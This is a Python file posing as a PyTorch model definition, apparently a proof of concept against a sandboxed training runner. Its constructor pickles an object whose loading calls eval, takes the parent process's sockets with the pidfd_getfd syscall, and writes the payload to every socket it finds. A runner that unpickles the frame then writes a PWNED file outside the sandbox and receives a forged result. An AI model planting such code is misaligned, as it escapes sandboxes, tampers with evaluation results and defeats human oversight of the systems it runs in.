"""Finds every socket it holds, and its parent's (pidfd_getfd, where the kernel lets it take them),
and writes to each a pickle whose loading runs code: a runner that unpickles what a worker sends
runs it, outside the sandbox. The code only writes a
file named PWNED beside this one (a folder the sandbox sees read-only), then the model builds."""

import ctypes
import os
import pickle
import struct

import torch.nn as nn

MARK = os.path.join(os.path.dirname(os.path.abspath(__file__)), "PWNED")


def supported_hyperparameters():
    return {'lr', 'momentum'}


class _RunsOnLoad:
    def __reduce__(self):
        forged = "{'ok': False, 'stage': 'export', 'error_type': 'Forged', 'error_message': 'forged'}"
        return eval, (f"(open({MARK!r}, 'w').write('code ran where this was unpickled'), {forged})[1]",)


def _parents_fd(number: int) -> int:
    pidfd = os.pidfd_open(os.getppid())
    try:
        fd = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, number, 0)  # pidfd_getfd
    finally:
        os.close(pidfd)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return fd


def _to_every_socket(data: bytes) -> None:
    """Its own sockets, and its parent's."""
    for folder in ("/proc/self/fd", f"/proc/{os.getppid()}/fd"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            try:
                if not os.readlink(f"{folder}/{name}").startswith("socket:"):
                    continue
                if folder == "/proc/self/fd":
                    os.write(int(name), data)
                else:
                    fd = _parents_fd(int(name))
                    os.write(fd, data)
                    os.close(fd)
            except OSError:
                continue


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        blob = pickle.dumps(_RunsOnLoad())
        _to_every_socket(struct.pack("!i", len(blob)) + blob)  # a multiprocessing.Connection frame
        self.conv = nn.Conv2d(in_shape[1], 4, 3, padding=1)
        self.fc = nn.Linear(4, out_shape[0])

    def forward(self, x):
        return self.fc(self.conv(x).mean((2, 3)))
